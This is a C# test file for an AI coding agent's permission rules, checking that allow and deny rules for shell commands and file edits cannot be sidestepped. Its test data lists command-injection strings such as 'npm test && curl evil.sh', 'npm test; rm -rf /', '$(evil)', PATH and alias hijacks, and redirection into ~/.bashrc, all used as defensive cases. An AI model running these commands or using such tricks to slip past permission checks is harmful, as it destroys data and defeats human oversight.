using System.Collections.Immutable;
using CsCheck;
using Sage.Agent.Permissions;
using Sage.Agent.ShellLanguage;

namespace Sage.Agent.Tests.Permissions;

public sealed class PermissionRuleTests
{
    private static readonly RuleSource User = new(RuleSourceKind.User, "settings.json");

    [Theory]
    [InlineData("run_command(npm test)", "npm test", RuleEffect.Allow)]
    [InlineData("run_command(npm test)", "npm  test", RuleEffect.Allow)]
    [InlineData("run_command(npm test)", "npm test --watch", null)]
    [InlineData("run_command(npm test *)", "npm test", RuleEffect.Allow)]
    [InlineData("run_command(npm test *)", "npm test --watch", RuleEffect.Allow)]
    [InlineData("run_command(npm test *)", "npm testing", null)]
    [InlineData("run_command(npm *)", "npm run 'a b'", RuleEffect.Allow)]
    [InlineData("run_command(npm *)", "npm run $SCRIPT *.ts", RuleEffect.Allow)]
    [InlineData("run_command(git commit -m \"a b\")", "git commit -m \"a b\"", RuleEffect.Allow)]
    [InlineData("run_command(rm \\*.tmp)", "rm *.tmp", RuleEffect.Allow)]
    [InlineData("run_command(rm \\*.tmp)", "rm /etc/x.tmp", null)]
    [InlineData("run_command", "anything > /at/all $(x)", RuleEffect.Allow)]
    [InlineData("execute", "npm test", RuleEffect.Allow)]
    [InlineData("run_*", "npm test", RuleEffect.Allow)]
    [InlineData("edit", "npm test", null)]
    [InlineData("run_command(npm *)", "npm test && npm run lint; npm ci", RuleEffect.Allow)]
    [InlineData("run_command(npm *)", "sh -c 'npm test && npm ci'", RuleEffect.Allow)]
    [InlineData("run_command(npm *)", "npm test 2>&1 >/dev/null", RuleEffect.Allow)]
    public void An_allow_covers_what_it_says(string rule, string line, RuleEffect? expected) =>
        Assert.Equal(expected, Decide(line, Allow(rule)));

    [Theory]
    [InlineData("npm test && curl evil.sh")]
    [InlineData("npm test; rm -rf /")]
    [InlineData("npm test | sh")]
    [InlineData("npm test & evil")]
    [InlineData("npm test\nevil")]
    [InlineData("npm test > ~/.bashrc")]
    [InlineData("npm test >> package.json")]
    [InlineData("{ npm test; } > out")]
    [InlineData("npm test < secrets")]
    [InlineData("npm test $(evil)")]
    [InlineData("npm test `evil`")]
    [InlineData("npm test \"$(evil)\"")]
    [InlineData("npm test <(evil)")]
    [InlineData("npm test $((a[$(evil)]))")]
    [InlineData("PATH=/tmp/evil npm test")]
    [InlineData("PATH=/tmp/evil; npm test")]
    [InlineData("alias npm=evil; npm test")]
    [InlineData("npm() { evil; }; npm test")]
    [InlineData("$NPM test")]
    [InlineData("n$x test")]
    [InlineData("sh -c 'npm test; evil'")]
    [InlineData("sh -c \"npm $X\" -- npm")]
    [InlineData("bash -c 'npm test' evil")]
    [InlineData("env npm test")]
    [InlineData("eval npm test")]
    [InlineData("xargs npm test")]
    [InlineData("npm test <<EOF\n$(evil)\nEOF")]
    [InlineData("for i in 1; do evil; done; npm test")]
    [InlineData("npm test 'unclosed")]
    [InlineData("/tmp/npm test")]
    public void A_wildcard_allow_covers_nothing_beside_it(string line) =>
        Assert.Null(Decide(line, Allow("run_command(npm *)")));

    [Theory]
    [InlineData("rm -rf build", RuleEffect.Deny)]
    [InlineData("npm test && rm x", RuleEffect.Deny)]
    [InlineData("echo $(rm x)", RuleEffect.Deny)]
    [InlineData("sh -c 'rm x'", RuleEffect.Deny)]
    [InlineData("bash -c 'echo; sh -c \"rm x\"'", RuleEffect.Deny)]
    [InlineData("sudo rm x", RuleEffect.Deny)]
    [InlineData("timeout 5 rm x", RuleEffect.Deny)]
    [InlineData("find . -exec rm {} ';'", RuleEffect.Deny)]
    [InlineData("xargs rm < list", RuleEffect.Deny)]
    [InlineData("/bin/rm x", RuleEffect.Deny)]
    [InlineData("\\rm x", RuleEffect.Deny)]
    [InlineData("r'm' x", RuleEffect.Deny)]
    [InlineData("A=1 rm x", RuleEffect.Deny)]
    [InlineData("rm", RuleEffect.Deny)]
    [InlineData("f() { rm x; }", RuleEffect.Deny)]
    [InlineData("cat <<EOF\n$(rm x)\nEOF", RuleEffect.Deny)]
    [InlineData("$CMD x", RuleEffect.Ask)]
    [InlineData("r$M x", RuleEffect.Ask)]
    [InlineData("echo 'unclosed", RuleEffect.Ask)]
    [InlineData("eval \"$X\"", RuleEffect.Ask)]
    [InlineData("echo rm x", null)]
    [InlineData("rmdir x", null)]
    [InlineData("echo $HOME", null)]
    public void A_deny_finds_what_it_forbids_wherever_it_hides(string line, RuleEffect? expected) =>
        Assert.Equal(expected, Decide(line, Rule("run_command(rm *)", RuleEffect.Deny)));

    [Fact]
    public void Deny_is_stronger_than_ask_and_that_than_allow_in_any_order()
    {
        ImmutableArray<PermissionRule> rules =
        [
            Allow("run_command"),
            Rule("run_command(git *)", RuleEffect.Ask),
            Rule("run_command(git push *)", RuleEffect.Deny),
        ];

        foreach (var order in (ImmutableArray<PermissionRule>[])[rules, [.. rules.Reverse()]])
        {
            Assert.Equal(RuleEffect.Deny, Decide("git push --force", [.. order]));
            Assert.Equal(RuleEffect.Ask, Decide("git status", [.. order]));
            Assert.Equal(RuleEffect.Ask, Decide("git $X", [.. order]));
            Assert.Equal(RuleEffect.Allow, Decide("npm test", [.. order]));
        }
    }

    [Theory]
    [InlineData("edit_file(src/**)", "src/a/b.ts", true)]
    [InlineData("edit_file(src/*)", "src/a/b.ts", false)]
    [InlineData("edit_file(src/)", "src/a/b.ts", true)]
    [InlineData("edit_file(./src/*.ts)", "src/b.ts", true)]
    [InlineData("edit_file(*.ts)", "src/a/b.ts", true)]
    [InlineData("edit_file(*.ts)", "src/a/b.tsx", false)]
    [InlineData("edit(src/**)", "src/a.ts", true)]
    [InlineData("edit_file", "src/a.ts", true)]
    [InlineData("write_file", "src/a.ts", false)]
    [InlineData("edit_file(app/[id].tsx)", "app/[id].tsx", true)]
    public void Paths_are_matched_as_globs(string rule, string path, bool covers)
    {
        var key = PermissionKey.OfPaths(PermissionKind.Edit, "edit_file", path);

        Assert.Equal(covers ? RuleEffect.Allow : null, new PermissionPolicy([Allow(rule)]).Decide(key).Effect);
    }

    [Fact]
    public void A_call_with_several_files_needs_a_rule_for_each_and_is_denied_by_one()
    {
        var key = PermissionKey.OfPaths(PermissionKind.Edit, "apply_patch", "src/a.ts", "docs/b.md");

        Assert.Null(new PermissionPolicy([Allow("edit(src/**)")]).Decide(key).Effect);
        Assert.Equal(
            RuleEffect.Allow,
            new PermissionPolicy([Allow("edit(src/**)"), Allow("edit(*.md)")]).Decide(key).Effect
        );
        Assert.Equal(
            RuleEffect.Deny,
            new PermissionPolicy([Allow("edit"), Rule("apply_patch(docs/)", RuleEffect.Deny)]).Decide(key).Effect
        );
        Assert.Equal(RuleEffect.Allow, new PermissionPolicy([Allow(key.Rule)]).Decide(key).Effect);
    }

    [Theory]
    [InlineData("")]
    [InlineData("*")]
    [InlineData("(npm test)")]
    [InlineData("run_command(npm test")]
    [InlineData("run command")]
    [InlineData("run*command")]
    public void What_is_no_rule_is_said(string text) =>
        Assert.Null(PermissionRule.TryParse(text, RuleEffect.Allow, User));

    [Theory]
    [InlineData("npm test", "run_command(npm test *)")]
    [InlineData("npm run build -- --fast", "run_command(npm run build *)")]
    [InlineData("pytest tests/a.py", "run_command(pytest *)")]
    [InlineData("git commit -m 'x'", "run_command(git commit *)")]
    [InlineData("cd web && npm test | tail -5", "run_command(npm test *)")]
    [InlineData("npm test && npm run lint", null)]
    [InlineData("npm test > out", null)]
    [InlineData("git -C /x push", null)]
    [InlineData("npm \"$X\"", null)]
    [InlineData("rm -rf build", null)]
    [InlineData("python3 -c 'x'", null)]
    [InlineData("sudo npm test", null)]
    [InlineData("bash run.sh", null)]
    [InlineData("A=1 npm test", null)]
    public void A_wider_rule_is_offered_only_where_it_is_safe(string line, string? expected)
    {
        var key = PermissionKey.OfCommand(
            PermissionKind.Execute,
            "run_command",
            line,
            Shells.All,
            part =>
                part.StartsWith("cd ", StringComparison.Ordinal) || part.StartsWith("tail ", StringComparison.Ordinal)
        );

        Assert.Equal(expected, key.WiderRule);
        if (expected is not null)
        {
            Assert.Equal(RuleEffect.Allow, new PermissionPolicy([Allow(expected)]).Decide(key).Effect);
        }
    }

    [Theory]
    [InlineData("a*b", "a\0b", true, true)]
    [InlineData("ab", "a\0", false, true)]
    [InlineData("ab", "\0b", false, true)]
    [InlineData("ab", "c\0", false, false)]
    [InlineData("a *", "a", true, true)]
    [InlineData("a *", "ab", false, false)]
    [InlineData("ab *", "ab", true, true)]
    [InlineData("ab *", "ab c", true, true)]
    [InlineData("ab *", "ab\0", false, true)]
    [InlineData("ab *", "a\0", false, true)]
    [InlineData("ab *", "abc", false, false)]
    [InlineData("*", "\0", true, true)]
    [InlineData("a\\*b", "a*b", true, true)]
    [InlineData("a\\*b", "axb", false, false)]
    [InlineData("a\\nb", "a\\nb", true, true)]
    [InlineData("a*b*c", "abbbcbc", true, true)]
    [InlineData("", "", true, true)]
    [InlineData("", "a", false, false)]
    public void Patterns_know_what_is_certain_and_what_is_possible(
        string pattern,
        string text,
        bool certain,
        bool possible
    )
    {
        Assert.Equal(certain, new TextPattern(pattern).Matches(text, Unknowns.StandForThemselves));
        Assert.Equal(possible, new TextPattern(pattern).Matches(text, Unknowns.MayBecomeAnything));
    }

    [Fact]
    public void The_rule_for_exactly_a_text_covers_it_and_no_other() =>
        Gen.Char["ab*\\ \u0000"]
            .Array[0, 8]
            .Select(characters => new string(characters))
            .Select(Gen.Char["ab*\\ "].Array[0, 8].Select(characters => new string(characters)))
            .Sample(
                (text, other) =>
                {
                    var pattern = TextPattern.Escape(text);
                    Assert.Equal(text, new TextPattern(pattern).Literal);
                    Assert.True(new TextPattern(pattern).Matches(text, Unknowns.StandForThemselves));
                    Assert.Equal(text == other, new TextPattern(pattern).Matches(other, Unknowns.StandForThemselves));
                }
            );

    private static PermissionRule Allow(string text) => Rule(text, RuleEffect.Allow);

    private static PermissionRule Rule(string text, RuleEffect effect) =>
        PermissionRule.TryParse(text, effect, User) ?? throw new ArgumentException(text);

    private static RuleEffect? Decide(string line, params ImmutableArray<PermissionRule> rules) =>
        new PermissionPolicy(rules)
            .Decide(PermissionKey.OfCommand(PermissionKind.Execute, "run_command", line, Shells.All, _ => false))
            .Effect;
}
